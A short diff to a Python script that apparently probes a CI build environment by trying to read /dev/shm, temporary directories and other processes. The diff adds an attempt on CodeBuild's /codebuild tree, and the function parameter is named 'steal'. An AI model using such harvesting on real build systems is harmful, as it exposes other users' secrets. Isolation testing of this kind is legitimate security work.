@@ -30,6 +30,7 @@ def main() -> None:
     attempt("memory files", lambda: read_all("/dev/shm"))
     attempt("temporary files", lambda: read_all(os.environ.get("TMPDIR", "/tmp")))
     attempt("other processes", processes)
+    attempt("CodeBuild's own tree", lambda: read_all("/codebuild"))
 
 
 def attempt(name: str, steal: Callable[[], bytes]) -> None:
